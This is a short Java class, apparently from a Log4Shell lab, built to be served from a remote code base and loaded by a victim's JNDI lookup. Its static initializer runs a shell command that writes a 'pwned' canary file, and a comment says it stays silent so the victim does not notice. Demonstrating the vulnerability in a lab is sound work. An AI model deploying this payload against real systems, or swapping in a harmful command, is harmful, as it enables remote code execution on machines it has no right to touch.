import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * The classic Log4Shell payload: its static initializer runs {@code /bin/sh -c 'echo pwned >
 * pwned'}, which writes the canary file {@code pwned} in the victim's working directory.
 *
 * <p>Served by the class server, never on the victim's class path: the victim only gets it by
 * downloading it from the {@code javaCodeBase} the rogue LDAP server (or RMI registry) named.
 * It implements {@link ObjectFactory} so that, once loaded, JNDI can also instantiate it, as
 * the exploit kits' classes did; what it returns ends up in the victim's log line.
 */
public class LabShell implements ObjectFactory {
    static {
        try {
            Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "echo pwned > pwned"});
        } catch (Exception e) {
            // A payload keeps quiet: the victim must not notice anything.
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context ctx, Hashtable<?, ?> env) {
        return "pwned-by-LabShell";
    }
}
